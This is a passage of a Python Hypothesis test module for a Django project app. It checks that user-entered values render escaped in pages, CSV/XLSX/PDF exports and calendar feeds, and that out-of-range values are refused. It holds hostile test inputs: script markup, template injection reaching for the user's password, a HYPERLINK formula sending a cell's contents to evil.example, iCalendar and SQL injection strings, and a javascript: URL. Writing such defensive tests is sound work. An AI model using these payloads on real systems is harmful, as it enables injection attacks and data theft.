"""Range and render (CONVENTIONS.md; issue 12): any value the API or a form accepts renders on every page that
shows it, and a value outside the range the app declares is refused and writes nothing.

For every kind of record a user enters (``KINDS``: project, milestone, change request, risk, issue with comments
and resolution, batch, quality event, cost entry, invoice, survey answer, client KPI target, scoring policy,
tradeoff priorities, re-baseline, PM certification, a client's name, a PM's name, what-if, a webhook endpoint) and
every channel it is entered through (the API as JSON, the page's form read from the page as a browser sends it, the
CSV import, the admin's form), the
values come from the limits that channel declares, read from its serializer or form fields: ``max_length``, min/max
values and validators, max digits and decimal places, choices, and the plausible dates of ``core.input_ranges``.
Texts mix markup, template and format syntax, formula prefixes, RTL and combining marks, emoji, newlines, control
characters, TeX for the charts, an iCalendar injection and very long words without spaces.

A *world* is one record of every kind at the values under test, written in a savepoint rolled back afterwards:

1. each kind is entered as its user would (the PM, the client's approver, leadership). A kind with later steps is
   entered twice: once taken through them (a change request submitted and approved, an issue commented and
   resolved, a re-baseline signed, a quality event closed, a proposal accepted) and once left open;
2. refused (API 400, or the form shown again with its errors): nothing was written (row counts of every table,
   audit events included);
3. then the real score recompute and Lean roll-up run (they must not fail), and every page, export (CSV, XLSX,
   PDF), calendar feed and API read that shows an entered value is fetched as the client's approver, the PM and
   leadership: each answers what it answers for a world of ordinary values (200, or that role's 403/404/405),
   never a 500; HTML shows every text escaped (and each kind's title somewhere), CSV and XLSX cells never start a
   formula, feeds parse without an injected event, PDFs are PDFs.

The worlds: the four corners (every field of every kind at its upper, then lower limit, each channel of a kind
meeting both; every first step must be accepted) and ``GENERATED`` drawn worlds (fixed seed). Beside them, every
value just outside a declared limit (one past ``max_length``, a NUL character, one unit past a number's range, a
day outside 2000–2100, NaN, an unknown choice) is entered alone and must be refused, writing nothing.

Which reads show which kind is declared in ``SHOWS`` for every named URL (``tests/url_names.py``): a new page or
API route fails ``test_every_url_is_declared`` until it is declared here. How each URL is filled (the record's id,
filters, bodies) comes from ``ROUTES`` in ``tests/test_invisibility.py``, with the records under test in place of
the shared ones; a record read apart (a new project, a change request already approved) has its own pages read too.

Quick by default (``make test``): one drawn world, each distinct limit's first two outside values, the PDFs only in
the upper corner as leadership and the system audit report's page and CSV (slow whatever the data, and rendered as
the project audit page and CSV, read in every world) left out. ``CMO_PROPERTY_DEEP=1`` (``make fuzz``): 60 drawn
worlds (``CMO_PROPERTY_EXAMPLES``), every outside value of every field, every read as every role, and a failing
world shrunk to its simplest. ``CMO_PROPERTY_SEED=<int>`` draws other worlds than the fixed seed's.
"""

import csv
import datetime as dt
import io
import json
import os
import re
import traceback
from collections.abc import Callable
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from decimal import Decimal
from html import escape
from urllib.parse import urlencode

import openpyxl
import pytest
from django import forms
from django.core import validators as django_validators
from django.db import connection, transaction
from django.test import Client as PageClient
from django.urls import reverse
from django.utils import timezone
from hypothesis import HealthCheck, Phase, given, seed, settings
from hypothesis import strategies as st
from icalendar import Calendar
from rest_framework import fields as drf

from clients.api.serializers import ClientUpdateSerializer, UserSerializer
from clients.models import User
from core.input_ranges import EARLIEST_DATE, LATEST_DATE, MAX_MONEY
from integrations.api import WebhookEndpointSerializer
from metrics.lean import services as lean_services
from metrics.lean.forms import KpiTargetForm
from metrics.lean.models import KpiMetric
from metrics.lean.services import KPI_RANGES
from metrics.portfolio.api import PMCertificationSerializer
from metrics.portfolio.forms import CertificationForm
from metrics.scores.api import WhatIfRequestSerializer
from metrics.scores.forms import ScoringPolicyForm, TradeoffForm, WhatIfForm
from metrics.scores.models import POLICY_PARAMETERS, ScoringPolicy, TradeoffProposal
from metrics.scores.services import scores_recompute
from metrics.surveys.api import SurveyAnswerSerializer
from metrics.surveys.forms import SurveyAnswerForm
from metrics.surveys.models import SurveyResponse
from metrics.surveys.services import invitation_token
from projects.api.serializers import ProjectSerializer
from projects.baselines.api import RebaselineSerializer
from projects.baselines.forms import RebaselineForm
from projects.change_requests.api import ChangeRequestSerializer, ChangeRequestSignSerializer
from projects.change_requests.forms import ChangeRequestForm
from projects.costs.api import CostEntrySerializer, InvoiceSerializer
from projects.costs.forms import CostEntryForm, InvoiceForm
from projects.documents.api import DocumentSerializer
from projects.documents.forms import DocumentUploadForm
from projects.forms import ProjectCreateForm
from projects.issues.api import IssueCommentSerializer, IssueResolveSerializer, IssueSerializer
from projects.issues.forms import IssueCommentForm, IssueRaiseForm, IssueResolveForm
from projects.milestones.api import MilestoneSerializer
from projects.milestones.forms import MilestoneEditForm
from projects.models import (
    Baseline,
    Batch,
    ChangeRequest,
    CostEntry,
    Document,
    Invoice,
    Issue,
    Milestone,
    Project,
    QualityEvent,
    Risk,
)
from projects.quality.api import BatchSerializer, QualityEventCloseSerializer, QualityEventSerializer
from projects.quality.forms import BatchForm, QualityEventCloseForm, QualityEventForm
from projects.risks.api import RiskSerializer
from projects.risks.forms import RiskForm
from projects.signatures.api import SignSerializer
from projects.signatures.forms import SignForm
from tests.clients.factories import PASSWORD
from tests.conftest import api_as
from tests.metrics.factories import certification, make_invitation
from tests.projects.document_factories import upload
from tests.test_invisibility import EXTRA_POSTS, ROUTES, WHAT_IF_BODY, WHAT_IF_QUERY, Shared, _build_shared, _webhook
from tests.test_round_trip import FormReader
from tests.url_names import PUBLIC, all_url_names

DEEP = os.environ.get("CMO_PROPERTY_DEEP") == "1"
GENERATED = int(os.environ.get("CMO_PROPERTY_EXAMPLES", "60" if DEEP else "1"))
SEED = os.environ.get("CMO_PROPERTY_SEED")  # another seed explores other values (the default one is fixed)
UNBOUNDED_TEXT = 20_000  # the longest text tried in a field without max_length (request bodies stop at 512 KiB)
ROLES = ("approver", "pm", "leadership")

# --- The limits a channel declares --------------------------------------------------------------------------


@dataclass(frozen=True)
class Text:
    max_length: int | None
    required: bool
    allow_blank: bool


@dataclass(frozen=True)
class Number:
    lo: Decimal
    hi: Decimal
    places: int  # 0: an integer
    required: bool = True


@dataclass(frozen=True)
class Day:
    required: bool
    lo: dt.date = EARLIEST_DATE  # every entered date: core.input_ranges, whatever the field says
    hi: dt.date = LATEST_DATE


@dataclass(frozen=True)
class Choice:
    values: tuple[str, ...]


@dataclass(frozen=True)
class Flag:
    pass


@dataclass(frozen=True)
class Url:
    """An address field (a webhook's): https, no spaces; the path carries the hostile text."""

    max_length: int | None


Limit = Text | Number | Day | Choice | Flag | Url


def _bounds(validator_list, lo, hi):
    for v in validator_list:
        if not isinstance(v, django_validators.MinValueValidator | django_validators.MaxValueValidator):
            continue
        limit = v.limit_value() if callable(v.limit_value) else v.limit_value
        if isinstance(v, django_validators.MinValueValidator):
            lo = max(lo, Decimal(str(limit)))
        elif isinstance(v, django_validators.MaxValueValidator):
            hi = min(hi, Decimal(str(limit)))
    return lo, hi


def _digits_range(max_digits: int | None, places: int) -> tuple[Decimal, Decimal]:
    if max_digits is None:
        return Decimal(-(2**31)), Decimal(2**31 - 1)
    top = Decimal(10) ** (max_digits - places) - Decimal(1).scaleb(-places)
    return -top, top


def drf_limit(f) -> Limit:
    """The limits a DRF serializer field declares (its own arguments and the model field's validators)."""
    required = f.required and f.default is drf.empty
    if isinstance(f, drf.BooleanField):
        return Flag()
    if isinstance(f, drf.ChoiceField):
        return Choice(tuple(str(k) for k in f.choices))
    if isinstance(f, drf.DecimalField):
        lo, hi = _digits_range(f.max_digits, f.decimal_places)
        lo, hi = _bounds(f.validators, lo, hi)
        return Number(lo, hi, f.decimal_places, required=required)
    if isinstance(f, drf.IntegerField):
        lo, hi = _bounds(f.validators, Decimal(-(2**63)), Decimal(2**63 - 1))
        return Number(lo, hi, 0, required=required)
    if isinstance(f, drf.DateField):
        return Day(required=required and not f.allow_null)
    if isinstance(f, drf.URLField):
        return Url(f.max_length)
    if isinstance(f, drf.CharField):
        return Text(f.max_length, required, f.allow_blank)
    raise AssertionError(f"no strategy for {f!r}")


def form_limit(f) -> Limit:
    """The limits a Django form field declares."""
    if isinstance(f, forms.BooleanField):
        return Flag()
    if isinstance(f, forms.ChoiceField):
        return Choice(tuple(str(k) for k, _ in f.choices if str(k) != ""))
    if isinstance(f, forms.DecimalField):
        lo, hi = _digits_range(f.max_digits, f.decimal_places or 0)
        lo, hi = _bounds(f.validators, lo, hi)
        return Number(lo, hi, f.decimal_places or 0, required=f.required)
    if isinstance(f, forms.IntegerField):
        lo, hi = _bounds(f.validators, Decimal(-(2**63)), Decimal(2**63 - 1))
        return Number(lo, hi, 0, required=f.required)
    if isinstance(f, forms.DateField):
        return Day(required=f.required)
    if isinstance(f, forms.URLField):
        return Url(f.max_length)
    if isinstance(f, forms.CharField):
        return Text(f.max_length, f.required, not f.required)
    raise AssertionError(f"no strategy for {f!r}")


def api_limits(serializer_class, names) -> dict[str, Limit]:
    fields = serializer_class(context={"request": None}).fields
    return {name: drf_limit(fields[name]) for name in names}


def form_limits(form, names) -> dict[str, Limit]:
    fields = form.base_fields if isinstance(form, type) else form.fields
    return {name: form_limit(fields[name]) for name in names}


# --- Values: strategies, corners and values just outside ---------------------------------------------------------

RAW_MARKERS = ('<b class="x">', "<script>alert(")


def markup(tag: str) -> str:
    """Markup naming the kind it was entered in: a page must show it escaped, never as markup."""
    return f'<b class="x">{tag}</b><script>alert(1)</script>'


SPECIAL_TEXTS = (
    markup("any"),
    "{{ request.user.password }} {% debug %} %s %(name)s {0} {} %%",
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\tleading tab",
    "مرحبا بالعالم — שלום עולם \u202eevil.exe\u202c",
    "Ze\u0301\u0302\u0303\u0304 Z\u0337\u0322\u034ea\u0334\u0300l\u0335go",
    "😀👩‍👩‍👧‍👦🏳️‍🌈🧪 x",
    "line one\nline two\r\nline three\rfour",
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:injected\r\nX",
    r"cost $5 and $\alpha_$ \frac{",
    "\x01\x02\x0b\x0c\x1b\x7f control characters",
    "' OR 1=1; -- \" ; DROP TABLE x",
    "Ω≈ç√∫ ﷽ 𝕏𝔂 \u200b\u200d\ufeff zero-width",
    "A" * 300,
)
TEXT_ALPHABET = st.characters(codec="utf-8", exclude_characters="\x00")


def long_text(length: int, tag: str = "any") -> str:
    """Text of exactly ``length`` characters: markup naming the kind, a newline, bad mathtext, a control character
    and an emoji first (so a 30-character code has them all), then the rest of the zoo, then one word without spaces
    to the end."""
    head = (
        f'<b class="x">{tag}</b>\n$x_$\x0b😀<script>alert(1)</script>'
        + " مرحبا \u202eRTL\u202c e\u0301 👩‍👩‍👧 {{ x }} %s %(x)s \r\nnext line\t"
        + "\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:injected\r\n"
    )
    return (head + "Pneumonoultramicroscopicsilicovolcanoconiosis" * (length // 45 + 1))[:length]


def text_strategy(limit: Text):
    top = limit.max_length or UNBOUNDED_TEXT
    low = 0 if limit.allow_blank else 1
    specials = sorted({t[:top] for t in SPECIAL_TEXTS if len(t[:top].strip()) >= low})
    return st.one_of(
        st.sampled_from(specials),
        st.text(TEXT_ALPHABET, min_size=low, max_size=min(top, 120)),
        st.builds(long_text, st.integers(max(low, 1), top)),
    )


def number_value(limit: Number, value: Decimal):
    return int(value) if limit.places == 0 else value


def number_strategy(limit: Number):
    zero = min(max(Decimal(0), limit.lo), limit.hi)
    edges = st.sampled_from([number_value(limit, v) for v in (limit.lo, limit.hi, zero)])
    if limit.places == 0:
        return st.one_of(edges, st.integers(int(limit.lo), int(limit.hi)))
    return st.one_of(
        edges,
        st.decimals(limit.lo, limit.hi, places=limit.places, allow_nan=False, allow_infinity=False),
    )


def day_strategy(limit: Day, ctx: "Ctx"):
    project = ctx.s.project
    days = [limit.lo, limit.hi, project.start_date, project.target_date, timezone.localdate()]
    inside = sorted({d for d in days if d and limit.lo <= d <= limit.hi})
    strategy = st.one_of(st.sampled_from(inside), st.dates(limit.lo, limit.hi))
    return strategy if limit.required else st.one_of(st.none(), strategy)


URL_BASE = "https://hooks.example.com/"
# What a URL's path may hold: no whitespace or control character (the validator refuses them), no "#" (a fragment
# is never sent, so refused); markup, quotes, braces, percent signs, RTL and emoji are all accepted.
URL_ALPHABET = st.characters(codec="utf-8", exclude_categories=("Zs", "Zl", "Zp", "Cc"), exclude_characters="#")


def long_url(length: int, tag: str = "any") -> str:
    """An https address of exactly ``length`` characters whose path is markup, quotes, template and format syntax."""
    path = f"<b>{tag}</b><script>alert(1)</script>\"'{{{{x}}}}%s%(x)s\u202eRTL😀?q=<i>&x='\""
    return (URL_BASE + path + "Pneumonoultramicroscopicsilicovolcanoconiosis" * (length // 45 + 1))[:length]


def url_strategy(limit: Url):
    top = limit.max_length or UNBOUNDED_TEXT
    return st.one_of(
        st.builds(lambda path: (URL_BASE + path)[:top], st.text(URL_ALPHABET, max_size=min(top, 120))),
        st.builds(long_url, st.integers(len(URL_BASE) + 1, top)),
    )


def strategy_for(limit: Limit, ctx: "Ctx"):
    if isinstance(limit, Url):
        return url_strategy(limit)
    if isinstance(limit, Text):
        return text_strategy(limit)
    if isinstance(limit, Number):
        return number_strategy(limit)
    if isinstance(limit, Day):
        return day_strategy(limit, ctx)
    if isinstance(limit, Choice):
        return st.sampled_from(limit.values)
    return st.booleans()


def corner_value(limit: Limit, which: str, tag: str = "any"):
    """Every field at its upper ("max") or lower ("min") limit."""
    top = which == "max"
    if isinstance(limit, Url):
        return long_url(limit.max_length or UNBOUNDED_TEXT, tag) if top else "https://a.io"
    if isinstance(limit, Text):
        if top:
            return long_text(limit.max_length or UNBOUNDED_TEXT, tag)
        return "="  # one character, a formula prefix (a reason may be optional, but not when something changes)
    if isinstance(limit, Number):
        return number_value(limit, limit.hi if top else limit.lo)
    if isinstance(limit, Day):
        return limit.hi if top else limit.lo
    if isinstance(limit, Choice):
        return limit.values[-1 if top else 0]
    return top


def outside_values(limit: Limit) -> list:
    """Values just outside what ``limit`` declares: each must be refused."""
    if isinstance(limit, Url):
        values = [
            "https://hooks.example.com/NUL\x00inside",
            "http://hooks.example.com/plain-http",
            "javascript:alert(1)",
        ]
        if limit.max_length:
            values.insert(1, URL_BASE + "x" * (limit.max_length + 1 - len(URL_BASE)))
        return values + ["https://hooks.example.com/with a space", "https://hooks.example.com/a#fragment"]
    if isinstance(limit, Text):
        values = ["NUL \x00 inside"]
        if limit.max_length:
            values.append("x" * (limit.max_length + 1))
        return values
    if isinstance(limit, Number):
        step = Decimal(1).scaleb(-limit.places)
        values = [number_value(limit, limit.hi + step), number_value(limit, limit.lo - step)]
        return values + (["NaN", "Infinity"] if limit.places else [])
    if isinstance(limit, Day):
        return [
            limit.lo - dt.timedelta(days=1),
            limit.hi + dt.timedelta(days=1),
            dt.date(1, 1, 1),
            dt.date(9999, 12, 31),
        ]
    if isinstance(limit, Choice):
        return ["no-such-choice"]
    return []


# --- The context: client A's project with one shared record of every kind, and a signed-in client per role -----


@dataclass
class Ctx:
    s: Shared
    users: dict[str, User]
    pages: dict[str, PageClient]
    apis: dict
    now: dt.datetime = field(default_factory=timezone.now)
    before: tuple[int, ...] = ()  # row counts before the write (a writer's own set-up is counted in)
    form_pages: dict | None = None  # pages read for their forms, kept while every write is rolled back alike

    def set_up_done(self) -> None:
        """What the writer prepared (an invitation, say) is not the user's write: count from here."""
        self.before = row_counts()


@pytest.fixture
def ctx(world) -> Ctx:
    s = _build_shared(world)
    ScoringPolicy.objects.current()  # made on first read otherwise: a page read would write
    certification(world)
    users = {"approver": world.approver_a, "pm": world.pm, "leadership": world.leadership, "admin": world.admin}
    pages = {}
    for role, user in users.items():
        pages[role] = PageClient()
        pages[role].force_login(user)
    return Ctx(s=s, users=users, pages=pages, apis={role: api_as(user) for role, user in users.items()}, now=s.now)


@contextmanager
def rolled_back():
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


_TABLES: list[str] = []


def row_counts() -> tuple[int, ...]:
    """Rows of every table (audit events included, sessions and login logs not), in one query."""
    if not _TABLES:
        _TABLES.extend(
            t for t in sorted(connection.introspection.table_names()) if not t.startswith(("django_session", "axes_"))
        )
    with connection.cursor() as cursor:
        cursor.execute("SELECT " + ", ".join(f'(SELECT count(*) FROM "{t}")' for t in _TABLES))
        return tuple(cursor.fetchone())


def changed_tables(before: tuple[int, ...], after: tuple[int, ...]) -> list[str]:
    return [f"{t}: {b} → {a}" for t, b, a in zip(_TABLES, before, after, strict=True) if b != a]


# --- Writing as a user would ------------------------------------------------------------------------------------


class Refused(Exception):
    """The channel refused the values (API 400, or the form shown again with its errors)."""


@dataclass
class Outcome:
    """What an accepted write gives: the records to show in place of the shared ones, and later steps."""

    shared: dict = field(default_factory=dict)
    fill: dict = field(default_factory=dict)  # extra placeholders for the reads' queries and bodies
    later: list[Callable[[], object]] = field(default_factory=list)  # later steps of its life; each may be refused


def _json_value(value):
    if isinstance(value, dt.date):
        return value.isoformat()
    if isinstance(value, Decimal):
        return str(value)
    return value


def api(ctx: Ctx, role: str, name: str, body: dict | None = None, *, kwargs=None, method="post") -> dict:
    """Send ``body`` as JSON; 200/201 → the answer's JSON, 400 → ``Refused``; anything else fails the test."""
    url = reverse(name, kwargs=kwargs)
    data = {k: _json_value(v) for k, v in (body or {}).items()}
    response = getattr(ctx.apis[role], method)(url, json.dumps(data), content_type="application/json")
    if response.status_code == 400:
        raise Refused(f"API {method.upper()} {url} → 400 {response.content.decode()[:600]}")
    assert response.status_code in (200, 201), (
        f"{method.upper()} {url} as {role}: {response.status_code} {response.content[:2000]}"
    )
    return response.json()


def _form_value(value):
    if value is None:
        return ""
    if isinstance(value, dt.date):
        return value.isoformat()
    return str(value)


def find_form(html: str, *, action: str | None = None, has: str | None = None, target: str | None = None) -> dict:
    """The fields a browser would send for the form with hidden ``action`` value, a field named ``has`` or the
    ``action`` attribute ``target``."""
    reader = FormReader()
    reader.feed(html)
    for form in reader.forms:
        names = [n for n, _ in form["fields"]]
        if action is not None and ("action", action) not in form["fields"]:
            continue
        if has is not None and not any(n == has or n.endswith("-" + has) for n in names):
            continue
        if target is not None and form["action"] != target:
            continue
        data: dict[str, list[str]] = {}
        for name, value in form["fields"]:
            data.setdefault(name, []).append(value)
        return data
    raise AssertionError(f"no form (action={action}, has={has}, target={target}) on the page")


def form_post(ctx: Ctx, role: str, page_url: str, values: dict, *, post_url: str | None = None, **find) -> str:
    """Open the page, fill its form with ``values`` (by field name, prefixed or not) and post it as the browser
    would. A redirect (the form was accepted) → its location; the form shown again with errors → ``Refused``."""
    html = ctx.form_pages.get((role, page_url)) if ctx.form_pages is not None else None
    if html is None:
        page = ctx.pages[role].get(page_url)
        assert page.status_code == 200, f"GET {page_url} as {role}: {page.status_code}"
        html = page.content.decode()
        if ctx.form_pages is not None:
            ctx.form_pages[(role, page_url)] = html
    data = find_form(html, **find)
    for name, value in values.items():
        key = next((k for k in data if k == name or k.endswith("-" + name)), None)
        if key is None:  # a field the page does not fill in (an unticked box, an empty choice)
            prefix = next((k.rsplit("-", 1)[0] + "-" for k in data if "-" in k), "")
            key = prefix + name
        if hasattr(value, "read"):  # an uploaded file
            data[key] = value
        elif isinstance(value, list):
            data[key] = [_form_value(item) for item in value]
        elif value is True:
            data[key] = ["on"]
        elif value is False:
            data.pop(key, None)
        else:
            data[key] = [_form_value(value)]
    response = ctx.pages[role].post(post_url or page_url, data)
    if response.status_code in (301, 302, 303):
        return response["Location"]
    body = response.content.decode()
    assert response.status_code in (200, 400), f"POST {post_url or page_url} as {role}: {response.status_code}"
    assert "error" in body, (
        f"POST {post_url or page_url} as {role}: {response.status_code} without a redirect or an error"
    )
    errors = re.findall(r'class="error[^"]*"[^>]*>(.*?)</', body, flags=re.S)
    raise Refused(f"form at {page_url} → {response.status_code} with errors: {[e[:150] for e in errors[:4]]}")


def pk_from(location: str) -> int:
    return int(location.rstrip("/").split("/")[-1])


# --- The kinds of records and how each is entered ---------------------------------------------------------------


@dataclass(frozen=True)
class Channel:
    limits: Callable[["Ctx"], dict[str, Limit]]
    write: Callable[["Ctx", dict], Outcome]
    fixed: Callable[["Ctx", dict, str], dict] = lambda ctx, values, corner: values  # cross-field rules of corners
    draw: Callable[["Ctx", dict], object] | None = None  # a strategy of its own (rules the fields cannot declare)

    def strategy(self, ctx: "Ctx"):
        limits = self.limits(ctx)
        if self.draw:
            return self.draw(ctx, limits)
        return st.fixed_dictionaries({name: strategy_for(limit, ctx) for name, limit in limits.items()})


@dataclass(frozen=True)
class Kind:
    name: str
    channels: dict[str, Channel]
    plain: Callable[["Ctx"], dict]  # an ordinary record: what every read answers for it is the expectation
    title: str | None = None  # a text field the kind's pages show (it must appear escaped)
    extra_only: bool = False  # its record is read apart (a new project), not in place of the shared one
    done: Callable[["Ctx", dict], dict] | None = None  # the values of the record taken through its later steps


def _project_pk(ctx: Ctx) -> int:
    return ctx.s.project.pk


# Project ---------------------------------------------------------------------------------------------------------

PROJECT_FIELDS = ("code", "name", "product", "start_date", "target_date", "budget", "contract_value", "currency")


def project_api(ctx: Ctx, v: dict) -> Outcome:
    body = {**v, "client": ctx.s.client.pk, "manager": ctx.users["pm"].pk, "service_type": "fill_finish"}
    created = api(ctx, "pm", "api:project-list", body)
    return Outcome(shared={"project": Project.objects.get(pk=created["id"])})


def project_form(ctx: Ctx, v: dict) -> Outcome:
    values = {**v, "client": ctx.s.client.pk, "template": ctx.s.world.template.pk}
    location = form_post(ctx, "pm", reverse("project-create"), values, has="code")
    return Outcome(shared={"project": Project.objects.get(pk=pk_from(location))})


PROJECT = Kind(
    "project",
    {
        "api": Channel(lambda ctx: api_limits(ProjectSerializer, PROJECT_FIELDS), project_api),
        "form": Channel(lambda ctx: form_limits(ProjectCreateForm, PROJECT_FIELDS), project_form),
    },
    plain=lambda ctx: {
        "code": "PLAIN-01",
        "name": "Plain project",
        "product": "mAb",
        "start_date": dt.date(2026, 1, 5),
        "target_date": dt.date(2026, 12, 18),
        "budget": Decimal("100000.00"),
        "contract_value": Decimal("120000.00"),
        "currency": "EUR",
    },
    title="name",
    extra_only=True,
)

# Milestone -------------------------------------------------------------------------------------------------------

MILESTONE_API_FIELDS = (
    "sequence",
    "name",
    "baseline_date",
    "forecast_date",
    "actual_date",
    "weight",
    "percent_complete",
    "value_adding",
)
MILESTONE_FORM_FIELDS = ("forecast_date", "percent_complete", "actual_date", "reason", "override_reason")


def milestone_api(ctx: Ctx, v: dict) -> Outcome:
    created = api(ctx, "pm", "api:milestone-list", {**v, "project": _project_pk(ctx), "client_visible": True})
    return Outcome(shared={"milestone": Milestone.objects.get(pk=created["id"])})


def milestone_form(ctx: Ctx, v: dict) -> Outcome:
    milestone = ctx.s.milestone
    action = reverse("milestone-edit", kwargs={"pk": milestone.pk})
    page = reverse("project-detail", kwargs={"pk": milestone.project_id})
    form_post(ctx, "pm", page, v, post_url=action, target=action)
    return Outcome(shared={"milestone": Milestone.objects.get(pk=milestone.pk)})


def milestone_corner(ctx: Ctx, v: dict, corner: str) -> dict:
    """Completion rules: a completed milestone is 100 % done, on a day between the project's start and today."""
    if corner == "max":
        return {**v, "actual_date": None}
    return {**v, "actual_date": ctx.s.project.start_date, "percent_complete": Decimal(100)}


MILESTONE = Kind(
    "milestone",
    {
        "api": Channel(
            lambda ctx: api_limits(MilestoneSerializer, MILESTONE_API_FIELDS), milestone_api, milestone_corner
        ),
        "form": Channel(
            lambda ctx: form_limits(MilestoneEditForm, MILESTONE_FORM_FIELDS), milestone_form, milestone_corner
        ),
    },
    plain=lambda ctx: {
        "sequence": 7,
        "name": "Plain milestone",
        "baseline_date": dt.date(2026, 6, 1),
        "forecast_date": dt.date(2026, 6, 8),
        "actual_date": None,
        "weight": Decimal("0.1"),
        "percent_complete": Decimal(20),
        "value_adding": True,
        "reason": "Plain reason",
    },
    title="name",
)

# Change request ----------------------------------------------------------------------------------------------------

CHANGE_FIELDS = (
    "title",
    "description",
    "schedule_impact_days",
    "cost_impact",
    "scope_impact",
    "scope_impact_percent",
    "quality_impact",
    "quality_impact_text",
)


def change_api(ctx: Ctx, v: dict) -> Outcome:
    fields = {k: v[k] for k in (*CHANGE_FIELDS, "moved_milestones") if k in v}
    created = api(ctx, "pm", "api:change-request-list", {**fields, "project": _project_pk(ctx)})
    api(ctx, "pm", "api:change-request-submit", kwargs={"pk": created["id"]})

    def approve():
        return api(
            ctx,
            "approver",
            "api:change-request-approve",
            {"password": PASSWORD, "comment": v["comment"]},
            kwargs={"pk": created["id"]},
        )

    return Outcome(shared={"change": ChangeRequest.objects.get(pk=created["id"])}, later=[approve])


def change_form(ctx: Ctx, v: dict) -> Outcome:
    fields = {k: v[k] for k in (*CHANGE_FIELDS, "moved_milestones") if k in v}
    page = reverse("project-change-requests", kwargs={"pk": _project_pk(ctx)})
    detail = form_post(ctx, "pm", page, fields, has="schedule_impact_days")
    form_post(ctx, "pm", detail, {}, action="submit")

    def approve():
        return form_post(
            ctx,
            "approver",
            detail,
            {"decision": "approve", "password": PASSWORD, "comment": v["comment"]},
            action="sign",
        )

    return Outcome(shared={"change": ChangeRequest.objects.get(pk=pk_from(detail))}, later=[approve])


def change_approvable(ctx: Ctx, v: dict) -> dict:
    """The change request taken to approval: the same values, but moving one milestone that no other kind moves, a
    cost the budget can take and a target still after the start, so that approval applies and its pages render."""
    project = ctx.s.project
    cost = min(max(v["cost_impact"], -project.budget), MAX_MONEY - project.budget)
    days = max(v["schedule_impact_days"], (project.start_date - project.target_date).days)  # target after start
    return {
        **v,
        "cost_impact": cost,
        "schedule_impact_days": days,
        "moved_milestones": [ctx.s.world.internal_milestone_a.pk],
    }


CHANGE = Kind(
    "change_request",
    {
        "api": Channel(
            lambda ctx: (
                api_limits(ChangeRequestSerializer, CHANGE_FIELDS)
                | {"comment": api_limits(ChangeRequestSignSerializer, ["comment"])["comment"]}
            ),
            change_api,
        ),
        "form": Channel(
            lambda ctx: form_limits(ChangeRequestForm, CHANGE_FIELDS) | form_limits(SignForm, ["comment"]), change_form
        ),
    },
    plain=lambda ctx: {
        "title": "Plain change",
        "description": "Plain description",
        "schedule_impact_days": 7,
        "cost_impact": Decimal("1000.00"),
        "scope_impact": "",
        "scope_impact_percent": Decimal(1),
        "quality_impact": "none",
        "quality_impact_text": "",
        "comment": "Agreed",
    },
    title="title",
    done=change_approvable,
)

# Risk --------------------------------------------------------------------------------------------------------------

RISK_FIELDS = ("title", "probability", "impact", "mitigation")


def risk_api(ctx: Ctx, v: dict) -> Outcome:
    body = {**v, "project": _project_pk(ctx), "visibility": "shared", "owner": ctx.users["pm"].pk}
    created = api(ctx, "pm", "api:risk-list", body)
    return Outcome(shared={"risk": Risk.objects.get(pk=created["id"])})


def risk_form(ctx: Ctx, v: dict) -> Outcome:
    page = reverse("project-risks", kwargs={"pk": _project_pk(ctx)})
    form_post(ctx, "pm", page, {**v, "visibility": "shared"}, action="risk")
    return Outcome(shared={"risk": Risk.objects.filter(project=ctx.s.project).latest("pk")})


RISK = Kind(
    "risk",
    {
        "api": Channel(lambda ctx: api_limits(RiskSerializer, RISK_FIELDS), risk_api),
        "form": Channel(lambda ctx: form_limits(RiskForm, RISK_FIELDS), risk_form),
    },
    plain=lambda ctx: {"title": "Plain risk", "probability": 2, "impact": 3, "mitigation": "Watch it"},
    title="title",
)

# Document: its title, entered with its first version's file (multipart) -------------------------------------------

DOCUMENT_FIELDS = ("title",)


def document_api(ctx: Ctx, v: dict) -> Outcome:
    body = {**v, "project": _project_pk(ctx), "kind": "coa", "visibility": "shared", "file": upload()}
    response = ctx.apis["pm"].post(reverse("api:document-list"), body, format="multipart")
    if response.status_code == 400:
        raise Refused(f"API POST documents → 400 {response.content.decode()[:600]}")
    assert response.status_code == 201, f"POST documents: {response.status_code} {response.content[:2000]}"
    return Outcome(shared={"document": Document.objects.get(pk=response.json()["id"])})


def document_form(ctx: Ctx, v: dict) -> Outcome:
    page = reverse("project-documents", kwargs={"pk": _project_pk(ctx)})
    location = form_post(ctx, "pm", page, {**v, "visibility": "shared", "kind": "coa", "file": upload()}, has="title")
    return Outcome(shared={"document": Document.objects.get(pk=pk_from(location))})


DOCUMENT = Kind(
    "document",
    {
        "api": Channel(lambda ctx: api_limits(DocumentSerializer, DOCUMENT_FIELDS), document_api),
        "form": Channel(lambda ctx: form_limits(DocumentUploadForm, DOCUMENT_FIELDS), document_form),
    },
    plain=lambda ctx: {"title": "Plain certificate of analysis"},
    title="title",
)

# Issue, with comments and a resolution -------------------------------------------------------------------------------

ISSUE_FIELDS = ("title", "description")


def issue_api(ctx: Ctx, v: dict) -> Outcome:
    created = api(ctx, "approver", "api:issue-list", {"project": _project_pk(ctx), **{k: v[k] for k in ISSUE_FIELDS}})
    pk = {"pk": created["id"]}
    steps = [
        (lambda: api(ctx, "approver", "api:issue-comments", {"body": v["body"]}, kwargs=pk)),
        (lambda: api(ctx, "pm", "api:issue-comments", {"body": v["body"]}, kwargs=pk)),
        (lambda: api(ctx, "pm", "api:issue-resolve", {"resolution": v["resolution"]}, kwargs=pk)),
    ]
    return Outcome(shared={"issue": Issue.objects.get(pk=created["id"])}, later=steps)


def issue_form(ctx: Ctx, v: dict) -> Outcome:
    page = reverse("project-issues", kwargs={"pk": _project_pk(ctx)})
    detail = form_post(ctx, "approver", page, {k: v[k] for k in ISSUE_FIELDS}, has="title")
    steps = [
        (lambda: form_post(ctx, "approver", detail, {"body": v["body"]}, action="comment")),
        (lambda: form_post(ctx, "pm", detail, {"body": v["body"]}, action="comment")),
        (lambda: form_post(ctx, "pm", detail, {"resolution": v["resolution"]}, action="resolve")),
    ]
    return Outcome(shared={"issue": Issue.objects.get(pk=pk_from(detail))}, later=steps)


ISSUE = Kind(
    "issue",
    {
        "api": Channel(
            lambda ctx: (
                api_limits(IssueSerializer, ISSUE_FIELDS)
